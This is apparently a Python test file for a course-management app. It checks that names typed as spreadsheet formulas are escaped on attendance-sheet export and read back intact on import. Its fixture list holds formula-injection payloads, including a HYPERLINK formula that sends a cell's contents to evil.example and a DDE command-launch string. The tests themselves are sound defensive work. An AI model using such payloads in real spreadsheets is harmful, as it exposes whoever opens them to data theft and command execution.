"""A name or role typed in as a spreadsheet formula is written to the attendance sheet as
text a spreadsheet will not run, and reads back as typed when the sheet is imported."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from govcap.cells import neutralise, restore
from govcap.delivery import imports
from govcap.delivery.models import TraineeIdentity
from govcap.interchange.tables import read_table
from tests.security.helpers import client_for

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
              "-2+3", "@SUM(1+1)", "\tTab", "\rReturn"]


def test_every_formula_character_is_written_as_text_and_read_back_as_typed():
    for text in INJECTIONS:
        cell = neutralise(text)
        assert isinstance(cell, str) and cell.startswith("'"), text
        assert restore(cell) == text
    # an apostrophe the writer typed before a letter is theirs, kept
    assert restore("'tis") == "'tis"


def test_the_attendance_sheet_escapes_a_formula_name_and_imports_back(course):
    TraineeIdentity.objects.filter(trainee=course.trainee).update(name=INJECTIONS[0])
    response = client_for(course.coordinator).get(
        reverse("delivery-attendance-template", args=[course.delivery.uuid]))
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert rows[1][1] == "'" + INJECTIONS[0]
    # read back by the importers' reader: the text as typed
    table = read_table(body.encode("utf-8"), "attendance.csv")
    assert table.rows[0].cells[1] == INJECTIONS[0]
    # and the sheet imports (its marks blank: nothing to record, no problem)
    result = imports.import_attendance(body.encode("utf-8"), course.delivery,
                                       user=course.coordinator, name="attendance.csv",
                                       dry_run=True)
    assert result.marks == 0
